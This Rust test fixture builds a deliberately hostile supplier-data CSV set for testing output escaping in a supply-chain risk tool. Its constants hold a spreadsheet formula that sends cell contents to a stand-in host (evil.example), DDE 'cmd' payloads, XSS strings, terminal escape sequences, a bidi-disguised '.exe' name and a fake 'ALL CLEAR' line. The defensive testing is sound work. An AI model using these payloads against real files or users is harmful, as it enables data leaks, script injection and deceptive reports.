//! The hostile fixture dataset (`tests/fixtures/hostile/`): supplier data as an attacker would
//! write it, with formula, Markdown, HTML, ANSI, bidi, control-character and separator
//! payloads in every text column, in a supply chain that gives every kind of finding.
//!
//! Ids carry every payload but control characters (validation refuses those in ids; see
//! `invalid_ids`): formulas, markup, link syntax, `|`, and the separators of composite ids,
//! chosen so that the ids of the old, unescaped forms would collide: products (`a`, `b:c`)
//! and (`a:b`, `c`) for finding ids, (`a`, `b/c`) and (`a/b`, `c`) for export node ids,
//! (`a`, `b-c`) and (`a-b`, `c`) for page anchors. Names, sectors, lists and programs carry
//! control characters too: ESC sequences that hide text or rename the window, BEL, DEL, C1
//! controls, bidi overrides and isolates, vertical tab and form feed (which XML forbids),
//! and line breaks.

use super::Files;

/// A spreadsheet formula that sends another cell's content away (the payload).
pub const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")";
/// A DDE payload that starts with `-`.
pub const DDE: &str = "-2+3+cmd|' /C calc'!A0";
pub const IMG: &str = "<img src=x onerror=alert(1)>";
pub const SCRIPT: &str = "<script>alert(1)</script>";
pub const SVG: &str = "<svg onload=alert(1)>";
pub const JS_LINK: &str = "[x](javascript:alert(1))";
/// Hides what follows on a terminal, then shows it again.
pub const HIDE: &str = "\u{1b}[8m";
/// Renames the terminal window.
pub const TITLE: &str = "\u{1b}]0;pwned\u{7}";
/// Reverses the text after it.
pub const RLO: &str = "\u{202e}";
/// A line that pretends the report is clean.
pub const ALL_CLEAR: &str = "\n# ALL CLEAR - no risks found";

/// Every hostile string a name column gets, each in one name at least.
pub const NAME_PAYLOADS: &[&str] = &[
    HYPERLINK, DDE, IMG, SCRIPT, SVG, JS_LINK, HIDE, TITLE, RLO, ALL_CLEAR,
];

/// One CSV file from a header and rows, quoted where the csv crate says so.
fn csv(header: &[&str], rows: &[Vec<&str>]) -> String {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(header).unwrap();
    for r in rows {
        w.write_record(r).unwrap();
    }
    String::from_utf8(w.into_inner().unwrap()).unwrap()
}

/// The hostile dataset's files. Entity ids: the product makers `a`, `a:b`, `a/b`, `a-b`;
/// the suppliers `=2*3` (DDE name), `@SUM(A1)`, `+1|x` and the restricted `<img ...>`; the
/// owner `[own](javascript:alert(1))`. Countries `=CC` (untrusted), `@US` (trusted),
/// `+TW` (neutral).
pub fn files() -> Files {
    let mut f = Files::new();
    f.insert(
        "countries.csv",
        csv(
            &["code", "trust", "name", "governance"],
            &[
                vec![
                    "=CC",
                    "untrusted",
                    HYPERLINK,
                    "\u{1b}[31mred\u{1b}[0m\u{7f}\u{85}",
                ],
                vec!["@US", "trusted", &format!("{JS_LINK}{IMG}"), "@SUM(A1)"],
                vec![
                    "+TW",
                    "neutral",
                    &format!("{HIDE}hidden{RLO}txt.exe"),
                    "\u{2066}isolate\u{2069}",
                ],
            ],
        ),
    );
    let a_name = format!("Maker A{ALL_CLEAR}");
    let ab_name = format!("{SCRIPT}|col|break|");
    let slash_name = format!("{TITLE}Maker slash");
    let dash_name = format!("{SVG} \u{b}vt\u{c}ff");
    let sup_name = format!("{DDE}{HIDE}");
    let sum_name = format!("{RLO}RLO \u{9b}31m C1 \u{1b}[2J");
    let pipe_name = format!("| pipe {HYPERLINK}");
    f.insert(
        "entities.csv",
        csv(
            &[
                "id",
                "name",
                "country",
                "kind",
                "restricted",
                "recovery_days",
            ],
            &[
                vec!["a", &a_name, "@US", "=1+1", "", ""],
                vec!["a:b", &ab_name, "@US", "", "", ""],
                vec!["a/b", &slash_name, "@US", "", "", ""],
                vec!["a-b", &dash_name, "@US", "", "", ""],
                vec!["=2*3", &sup_name, "=CC", "", "", "200"],
                vec!["@SUM(A1)", &sum_name, "=CC", "", "", ""],
                vec!["+1|x", &pipe_name, "+TW", "", "", ""],
                vec![IMG, JS_LINK, "+TW", SCRIPT, "true", ""],
                vec!["[own](javascript:alert(1))", HYPERLINK, "=CC", "", "", ""],
                vec!["%41 100%", "Percent %3A maker", "@US", "", "", ""],
            ],
        ),
    );
    let in1_name = format!("`code` **bold** {SVG}");
    f.insert(
        "items.csv",
        csv(
            &["id", "name", "sector", "critical"],
            &[
                vec!["b:c", "Product b:c", HYPERLINK, "true"],
                vec!["c", "Product c", &format!("{HIDE}sector"), ""],
                vec!["b/c", "Product b/c", IMG, ""],
                vec!["b-c", "Product b-c", JS_LINK, ""],
                vec![SVG, &in1_name, "", ""],
                vec!["=1+1", &format!("@cmd {TITLE}"), "", ""],
                vec!["x%3Ay", &format!("unmapped{ALL_CLEAR}"), "", ""],
            ],
        ),
    );
    // Every product needs both inputs; `b-c` also an input nobody supplies (a visibility gap).
    let mut bom = Vec::new();
    for product in ["b:c", "c", "b/c", "b-c"] {
        bom.push(vec![product, SVG, "1"]);
        bom.push(vec![product, "=1+1", "1"]);
    }
    bom.push(vec!["b-c", "x%3Ay", "1"]);
    f.insert("bom.csv", csv(&["item", "input", "quantity"], &bom));
    // `=2*3` alone supplies the first input (a single point of failure at every level, time
    // exposure); the second is split between `@SUM(A1)` (untrusted) and `+1|x` (neutral) and,
    // for two makers, `<img ...>` (restricted): capacity at risk, concentration, exposure.
    let makers = ["a", "a:b", "a/b", "a-b", "%41 100%"];
    let mut supply = Vec::new();
    for m in makers {
        supply.push(vec!["=2*3", m, SVG, "", "", "30"]);
        if m == "a" || m == "a/b" {
            supply.push(vec!["@SUM(A1)", m, "=1+1", "0.5", "", ""]);
            supply.push(vec![IMG, m, "=1+1", "0.3", "", ""]);
            supply.push(vec!["+1|x", m, "=1+1", "0.2", "", ""]);
        } else {
            supply.push(vec!["@SUM(A1)", m, "=1+1", "0.7", "", ""]);
            supply.push(vec!["+1|x", m, "=1+1", "0.3", "", ""]);
        }
    }
    // An unqualified alternate.
    supply.push(vec!["%41 100%", "a", "=1+1", "", "false", ""]);
    f.insert(
        "supply.csv",
        csv(
            &[
                "supplier",
                "buyer",
                "item",
                "share",
                "qualified",
                "lead_time_days",
            ],
            &supply,
        ),
    );
    f.insert(
        "products.csv",
        csv(
            &["entity", "item", "annual_revenue", "inventory_days"],
            &[
                vec!["a", "b:c", "1000000", "30"],
                vec!["a:b", "c", "2000000", "30"],
                vec!["a", "b/c", "500000", "30"],
                vec!["a/b", "c", "700000", "30"],
                vec!["a", "b-c", "300000", "30"],
                vec!["a-b", "c", "400000", "30"],
                vec!["%41 100%", "c", "", ""],
            ],
        ),
    );
    f.insert(
        "ownership.csv",
        csv(
            &["owner", "entity", "share"],
            &[
                vec!["[own](javascript:alert(1))", "=2*3", "0.7"],
                vec!["[own](javascript:alert(1))", "@SUM(A1)", "0.6"],
            ],
        ),
    );
    f.insert(
        "restricted.csv",
        csv(
            &["name", "entity", "list", "program", "country"],
            &[
                vec![JS_LINK, IMG, "=cmd|'/C calc'!A0", SCRIPT, "@US"],
                vec![&format!("Listed {HIDE}party"), "", TITLE, RLO, "=CC"],
            ],
        ),
    );
    f
}

/// A dataset whose ids hold control characters, which validation refuses: the hostile
/// dataset with an ESC in an entity id, a U+202E in an item id and a DEL in a country code.
pub fn invalid_ids() -> Files {
    let mut f = files();
    let swap = |text: &str, from: &str, to: &str| text.replace(from, to);
    let e = swap(&f["entities.csv"], "\na-b,", "\na\u{1b}[8m-b,");
    let e = swap(&e, ",+TW,", ",+T\u{7f}W,");
    f.insert("entities.csv", e);
    let c = swap(&f["countries.csv"], "\n+TW,", "\n+T\u{7f}W,");
    f.insert("countries.csv", c);
    let i = swap(&f["items.csv"], "\nb-c,", "\nb\u{202e}-c,");
    let i = swap(&i, "\nb:c,", "\n\u{1b}b:c,");
    f.insert("items.csv", i);
    f
}

/// A chain `levels` deep with a different supplier per level: item `x{i}` is made from
/// `x{i-1}` by `s{i}`, which buys it from `s{i-1}`; `s{levels}` makes the end product. Every
/// supplier is a single point of failure whose evidence path runs the rest of the chain, so
/// the report grows with the square of the depth (10,000 levels: a 680 KB dataset, a 4.2 GB
/// report JSON).
pub fn deep_chain(levels: usize) -> Files {
    use std::fmt::Write as _;
    let mut f = Files::new();
    f.insert(
        "countries.csv",
        "code,trust,name\nAA,trusted,Aland\nBB,untrusted,Bland\n".to_string(),
    );
    let (mut entities, mut items) = (String::from("id,name,country\n"), String::from("id,name\n"));
    let (mut bom, mut supply) = (
        String::from("item,input\n"),
        String::from("supplier,buyer,item\n"),
    );
    for i in 0..=levels {
        let country = if i % 2 == 1 { "AA" } else { "BB" };
        let _ = writeln!(entities, "s{i},Supplier {i},{country}");
        let _ = writeln!(items, "x{i},Item {i}");
        if i > 0 {
            let _ = writeln!(bom, "x{i},x{}", i - 1);
            let _ = writeln!(supply, "s{},s{i},x{}", i - 1, i - 1);
        }
    }
    f.insert("entities.csv", entities);
    f.insert("items.csv", items);
    f.insert("bom.csv", bom);
    f.insert("supply.csv", supply);
    f.insert(
        "products.csv",
        format!("entity,item,annual_revenue\ns{levels},x{levels},1000000\n"),
    );
    f
}
